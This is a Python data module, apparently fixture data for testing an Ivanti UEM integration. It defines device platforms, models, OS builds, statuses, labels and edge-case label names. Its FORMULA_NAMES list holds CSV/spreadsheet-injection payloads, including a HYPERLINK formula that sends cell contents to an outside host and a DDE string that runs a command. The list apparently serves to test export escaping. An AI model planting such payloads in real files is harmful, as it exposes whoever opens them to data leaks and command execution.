# Copyright (c) 2026 ivanti.uem contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What fleets are made of: platforms, models, systems, statuses, reasons, spaces, labels. Data
only."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Model:
    """`name` is what the console shows, `product` what the device calls itself."""

    name: str
    product: str
    maker: str
    cellular: bool = True


@dataclass(frozen=True)
class Platform:
    """One platform as Core names it: its share of the fleet, models, and systems (version, build),
    newest first."""

    name: str
    weight: int
    models: tuple[Model, ...]
    systems: tuple[tuple[str, str], ...]
    mac: str


# fmt: off
PLATFORMS = (
    Platform("iOS", 45, (
        Model("iPhone 15", "iPhone15,4", "Apple"), Model("iPhone 14", "iPhone14,7", "Apple"),
        Model("iPhone SE 3rd gen", "iPhone14,6", "Apple"), Model("iPhone 16", "iPhone17,3", "Apple"),
        Model("iPad 10th gen", "iPad13,18", "Apple", False), Model("iPad Mini 6th gen", "iPad14,1", "Apple"),
    ), (("18.6.2", "22G100"), ("18.5", "22F76"), ("17.7.10", "21H450"), ("16.7.11", "20H360")), "608c4a"),
    Platform("Android", 38, (
        Model("SM-A546B", "a54x", "samsung"), Model("SM-S921B", "e1s", "samsung"),
        Model("SM-X306B", "gtactive5", "samsung"), Model("Pixel 8", "shiba", "Google"),
        Model("TC58", "TC58", "Zebra Technologies"), Model("moto g84 5G", "bangkk", "motorola"),
    ), (("14.0", "UP1A.231005.007"), ("15.0", "AP3A.240905.015"), ("13.0", "TP1A.220624.014"),
        ("11.0", "RP1A.200720.011")), "404e36"),
    Platform("macOS", 10, (
        Model("MacBook Air", "Mac14,2", "Apple", False), Model("MacBook Pro", "Mac15,3", "Apple", False),
        Model("iMac", "iMac21,1", "Apple", False),
    ), (("15.6.1", "24G90"), ("14.7.8", "23H730")), "a483e7"),
    Platform("Windows", 7, (
        Model("Latitude 5440", "Latitude 5440", "Dell Inc.", False),
        Model("Surface Pro 9", "Surface Pro 9", "Microsoft Corporation", False),
    ), (("11", "10.0.22631.4751"), ("10", "10.0.19045.5487")), "f8e43b"),
)

#: (status, weight). A fleet of 150 or more has each of them.
STATUSES = (
    ("ACTIVE", 860), ("RETIRED", 25), ("VERIFICATION_PENDING", 25), ("VERIFIED", 8), ("IENROLL_INPROGRESS", 8),
    ("IENROLL_COMPLETE", 8), ("IENROLL_VERIFIED", 6), ("LOST", 10), ("WIPED", 10), ("EXPIRED", 8), ("INFECTED", 3),
    ("RETIRE_PENDING", 6), ("BLOCKED", 4),
)

#: (bit, weight) of reasons out of which a device which is not compliant has one to three.
REASON_WEIGHTS = (
    (0x2, 30), (0x20, 25), (0x8, 12), (0x10, 10), (0x40, 4), (0x1000, 5), (0x2000, 6), (0x4000, 2), (0x800, 5), (0x1, 4),
    (0x4, 2), (0x100, 1), (0x8000, 3), (0x10000, 3), (0x80, 1), (0x400, 1),
)
# fmt: on

#: (name, criteria) of the spaces below the global one. A further one is fed by a comment.
SPACES = (
    ("EMEA", '"common.home_country_name" = "Germany"'),
    ("Retail & Kiosk", '"user.user_id" "starts with" "kiosk-"'),
)

#: System labels: (id, name, description, query). An empty query finds everything. Of the ids, -1 and -3 are documented.
# fmt: off
SYSTEM_LABELS = (
    (-1, "All-Smartphones", "Label for all devices irrespective of OS", ""),
    (-2, "Company-Owned", "Label for all Company owned smartphones.", '"common.owner" = "COMPANY" AND "common.retired" = false'),
    (-3, "iOS", "Label for all iOS devices.", '"common.platform" = "iOS" AND "common.retired" = false'),
    (-4, "Android", "Label for all Android Phones.", '"common.platform" = "Android" AND "common.retired" = false'),
    (-5, "Employee-Owned", "Label for all Employee owned Smartphones.", '"common.owner" = "EMPLOYEE" AND "common.retired" = false'),
    (-6, "macOS", "Label for all macOS devices.", '"common.platform" = "macOS" AND "common.retired" = false'),
    (-7, "Windows", "Label for all Windows devices.", '"common.platform" = "Windows" AND "common.retired" = false'),
)

#: Labels of administrators: (name, description, query or None, share of the devices when static, space by its place).
LABELS: tuple[tuple[str, str, str | None, float, int], ...] = (
    ("Pilot", "Chosen by hand", None, 0.06, 0),
    ("Sales/EMEA", "A slash in its name", None, 0.15, 0),
    ("R&D, Lab #3", "An ampersand, a comma, a number sign", None, 0.08, 0),
    ("Außendienst", "Nicht nur ASCII", None, 0.10, 0),
    ("two words", "", None, 0.12, 0),
    ("{{ pool }}", "Looks like a template", None, 0.02, 0),
    ("100% A+B", "A per cent sign and a plus", None, 0.03, 0),
    ("No members", "", None, 0.0, 0),
    ("Not compliant", "", '"common.compliant" = false AND "common.retired" = false', 0.0, 0),
    ("Quarantined, now", "", '"common.quarantined" = true', 0.0, 0),
    ("Samsung", "By manufacturer", '"common.manufacturer" = "samsung" AND "common.retired" = false', 0.0, 0),
    ("Old systems", "", '("common.platform" = "iOS" AND "common.os_version" < "17") OR '
     '("common.platform" = "Android" AND "common.os_version" < "13")', 0.0, 0),
    ("Everything", "Filtered, with an empty criterion", "", 0.0, 0),
    ("EMEA loaners", "Of a space", None, 0.25, 1),
)
# fmt: on

#: Names which a table program takes for formulas, or a careless reader of CSV for more than one field.
FORMULA_NAMES = (
    '=HYPERLINK("http://example.com/?q="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-555-0100",
    "\t=1+1",
    'said "a,b";c',
)

OPERATORS = ("Verizon", "AT&T", "T-Mobile", "Vodafone.de", "ドコモ")
